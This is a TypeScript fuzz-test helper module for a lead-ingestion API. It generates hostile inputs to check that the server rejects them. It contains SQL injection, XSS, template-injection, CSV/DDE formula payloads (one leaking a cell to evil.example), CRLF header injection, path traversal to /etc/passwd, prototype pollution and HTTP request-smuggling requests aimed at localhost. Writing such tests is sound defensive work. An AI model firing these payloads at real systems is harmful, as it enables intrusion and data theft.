import { connect } from "node:net";

/** A small seeded PRNG (mulberry32): the same hostile inputs every run, so a failure reproduces. */
export function rng(seed: number) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
export type Rng = ReturnType<typeof rng>;
export const pick = <T>(r: Rng, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];

/** Strings that try to escape the field they sit in: SQL, markup, templates, spreadsheet formulas, headers, encodings. */
export const INJECTIONS = [
  "'; DROP TABLE leads; --",
  "1' OR '1'='1' /*",
  "'); SELECT pg_sleep(10); --",
  "\\'; COPY leads TO '/tmp/x'; --",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(document.cookie)>',
  "<svg/onload=alert`1`>",
  "javascript:alert(1)",
  "{{7*7}}",
  "{{ constructor.constructor('return process')() }}",
  "{% for x in (1..99999999) %}x{% endfor %}",
  "${process.exit(1)}",
  "#{7*7} <%= 7*7 %>",
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "line\r\nX-Injected: 1\r\n\r\n<html>",
  "%0d%0aSet-Cookie: owned=1",
  "nul\u0000byte\u0000",
  "lone\uD800surrogate",
  "\uDFFFtrailing",
  "\u202Eexe.fdp\u202C invoice",
  "zero\u200Bwidth\uFEFFbom",
  "../../../../etc/passwd",
  "राहुल पाटील 🙂 مرحبا",
  "__proto__",
  "A".repeat(9_000),
] as const;

/** What PostgreSQL keeps of a string: NUL and lone surrogates become U+FFFD (api/ingest/event-writer.ts); the rest byte for byte. */
export const asStored = (s: string) => s.replaceAll("\u0000", "\uFFFD").toWellFormed();

/** JSON that does not parse, or parses into something no lead is. */
export const MALFORMED_JSON = [
  '{"email": "a@example.com",',
  '{"email":}',
  "{'email': 'single@example.com'}",
  '{"a":1}{"b":2}',
  '\uFEFF{"email":"bom@example.com"}',
  "[".repeat(5000) + "]".repeat(5000),
  '{"a":'.repeat(2000) + "1" + "}".repeat(2000),
  '{"email":"dup@example.com","email":"other@example.com"}',
  "NaN",
  "",
  "\u0000\u0001\u0002",
  '{"budget": 1e999999, "email": "inf@example.com"}',
  '{"email": "x@example.com" /* comment */}',
  '"just a string"',
  '[{"email":"array@example.com"}]',
  "null",
  '{"first_name": "\\ud800\\u0000", "email": "esc@example.com",}',
];

/** Lead-shaped bodies that break the schema: wrong types, too long, nothing to reach. */
export const SCHEMA_VIOLATIONS: unknown[] = [
  { email: 123 },
  { email: ["a@example.com"] },
  { email: "not-an-email" },
  { phone: "call me maybe" },
  { first_name: "No contact" },
  { email: "ok@example.com", phone: { number: 1 } },
  { email: "ok@example.com", first_name: "x".repeat(201) },
  { email: "ok@example.com", message: "m".repeat(10_001) },
  { email: "ok@example.com", tags: Array.from({ length: 51 }, (_, i) => `t${i}`) },
  { email: "ok@example.com", gdpr_consent: "yes" },
  { email: "ok@example.com", budget: -5 },
  { email: "ok@example.com", custom_fields: ["not", "a", "record"] },
];

/** Properties a sender must never set: they belong to the machine or to another tenant. */
export const forbiddenProps = (victimTenant: string, forgedId: string): Record<string, unknown>[] => [
  { tenant_id: victimTenant },
  { lead_score: 987_654 },
  { id: forgedId },
  { owner_id: forgedId },
  { lead_number: "LEAD-000000-00001" },
  { is_duplicate: true, duplicate_of_id: forgedId },
  { converted_at: "2020-01-01T00:00:00Z" },
  JSON.parse('{"__proto__": {"isAdmin": true}}'),
  { constructor: { prototype: { polluted: true } } },
];

/** CSV files that try the importer: formulas, a huge field, bad quoting, BOMs, binary, ragged rows. */
export const HOSTILE_CSV: { name: string; bytes: Uint8Array<ArrayBuffer> }[] = [
  {
    name: "formula.csv",
    bytes: Buffer.from(
      '\uFEFFName,Email,Company\r\n"=HYPERLINK(""http://evil.example"",""x"")",formula@example.com,=1+2\r\n+cmd|\' /C calc\'!A0,plus@example.com,@SUM(A1)\r\n',
    ),
  },
  { name: "huge-field.csv", bytes: Buffer.from(`Name,Email\n"${"H".repeat(150_000)}",huge@example.com\n`) },
  { name: "unbalanced.csv", bytes: Buffer.from('Name,Email\n"never closed,quote@example.com\nnext,row@example.com\n') },
  { name: "double-bom.csv", bytes: Buffer.from("\uFEFF\uFEFFName;Email\r\nBom;bom@example.com\r\n") },
  {
    name: "utf16.csv",
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Name,Email\r\nSixteen,utf16@example.com\r\n", "utf16le")]),
  },
  { name: "binary.csv", bytes: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 7919) % 256)) },
  { name: "nul.csv", bytes: Buffer.from("Name,Email\nNul\u0000Name,nul@example.com\n") },
  { name: "ragged.csv", bytes: Buffer.from(`a,b,c\n${"1,2\n".repeat(300)}1,2,3,4,5,6,7,8,9\n`) },
  { name: "headers-only.csv", bytes: Buffer.from("Name,Email\n") },
  { name: "../../../etc/passwd", bytes: Buffer.from("Name,Email\nPath,path@example.com\n") },
  { name: "empty.csv", bytes: new Uint8Array(0) },
  { name: "wide.csv", bytes: Buffer.from(`${Array.from({ length: 3000 }, (_, i) => `c${i}`).join(",")}\n${"x,".repeat(2999)}x\n`) },
];

/** RFC 5322 messages that try the mail reader: broken MIME, deep nesting, bad encodings, markup, header tricks. */
export function hostileMime(r: Rng): string {
  const inj = pick(r, INJECTIONS).slice(0, 300);
  const cases = [
    () => `From: a@example.com\r\nSubject: ${inj}\r\n\r\n${inj}`,
    () =>
      `From: "<script>alert(1)</script>" <script@example.com>\r\nTo: sales@example.com\r\nSubject: =?utf-8?B?!!!not-base64!!!?=\r\nContent-Type: text/html; charset=x-unknown-8\r\n\r\n<html><body onload=alert(1)><script>alert(2)</script>${inj}</body></html>`,
    () =>
      `From: x@example.com\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nunterminated part ${inj}\r\n--b\r\nContent-Type: text/plain\r\n`,
    () => {
      let body = "leaf";
      for (let i = 0; i < 40; i++) body = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n${body}\r\n--n${i}--\r\n`;
      return `From: deep@example.com\r\n${body}`;
    },
    () => `From: b64@example.com\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@@not base64 at all ${inj}====`,
    () =>
      `From: qp@example.com\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=E0=A4=B0 ${inj}=`,
    () =>
      `From: att@example.com\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="../../../../etc/passwd"\r\n\r\n${"\u0000".repeat(50)}\r\n--z--\r\n`,
    () => `From: many@example.com\r\n${Array.from({ length: 3000 }, (_, i) => `X-H${i}: ${i}`).join("\r\n")}\r\n\r\nbody`,
    () => `From: long@example.com\r\nSubject: ${"S".repeat(60_000)}\r\n\r\nbody`,
    () =>
      `From: ${inj.replace(/\r|\n/g, "")} <rtl\u202E@example.com>\r\nReply-To: victim@example.com\r\nBcc: everyone@example.com\r\nSubject: Re: hi\r\nIn-Reply-To: <${"x".repeat(2000)}@example.com>\r\n\r\nBuy now`,
  ];
  return pick(r, cases)();
}

/** Random garbage of any shape (from the first fuzz suite): whatever it is, it must not become a lead. */
export function garbage(r: Rng, depth = 0): unknown {
  const n = Math.floor(r() * 10);
  if (depth > 3 || n < 3) return pick(r, INJECTIONS);
  if (n < 4) return r() * 1e20 - 1e10;
  if (n < 5) return r() < 0.5;
  if (n < 6) return null;
  if (n < 8) return Array.from({ length: Math.floor(r() * 5) }, () => garbage(r, depth + 1));
  const keys = [
    "phone",
    "name",
    "__proto__",
    "constructor",
    "tenant_id",
    "lead_score",
    "user_column_data",
    "form_response",
    "fields",
    "entry",
    "RESPONSE",
    pick(r, INJECTIONS).slice(0, 50),
  ];
  return Object.fromEntries(Array.from({ length: 1 + Math.floor(r() * 6) }, () => [pick(r, keys), garbage(r, depth + 1)]));
}

export const CONTENT_TYPES = [
  "text/plain",
  "application/xml",
  "application/x-www-form-urlencoded",
  "multipart/form-data",
  "multipart/form-data; boundary=",
  "message/rfc822",
  "application/json; charset=utf-16",
  "application/json; charset=x-bogus",
  "image/png",
  "",
];

export interface RawAnswer {
  status: number;
  body: string;
}

/**
 * Sends bytes no HTTP client would (duplicate Content-Length, smuggling, bad header bytes) over a
 * plain socket and reads what comes back: the status line and body, or status 0 when the server
 * closes without a word.
 */
export function rawHttp(port: number, request: string, timeoutMs = 5_000): Promise<RawAnswer> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    const chunks: Buffer[] = [];
    const done = () => {
      clearTimeout(timer);
      socket.destroy();
      const text = Buffer.concat(chunks).toString("latin1");
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1] ?? 0);
      const body = text.includes("\r\n\r\n") ? text.slice(text.indexOf("\r\n\r\n") + 4) : "";
      resolve({ status, body });
    };
    const timer = setTimeout(done, timeoutMs);
    socket.on("data", (c) => {
      chunks.push(c);
      // One answer is all we wait for: a complete head plus the Content-Length it names.
      const text = Buffer.concat(chunks).toString("latin1");
      const head = text.indexOf("\r\n\r\n");
      const len = Number(/\r\ncontent-length: *(\d+)/i.exec(text.slice(0, head))?.[1] ?? -1);
      if (head >= 0 && len >= 0 && text.length >= head + 4 + len) done();
    });
    socket.on("end", done);
    socket.on("error", done);
    socket.write(request, "latin1");
  });
}

/** Raw requests that break HTTP framing or header rules; node's parser must refuse them. */
export function smuggling(path: string, host: string): string[] {
  const body = '{"email":"smuggle@example.com"}';
  return [
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nContent-Length: ${body.length + 5}\r\n\r\n${body}`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked, identity\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Bad: a\u0000b\r\nContent-Length: 2\r\n\r\n{}`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nBad Header Name: x\r\nContent-Length: 2\r\n\r\n{}`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Huge: ${"h".repeat(20_000)}\r\nContent-Length: 2\r\n\r\n{}`,
    `POST ${path}?${"q".repeat(20_000)} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 2\r\n\r\n{}`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}`,
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
  ];
}
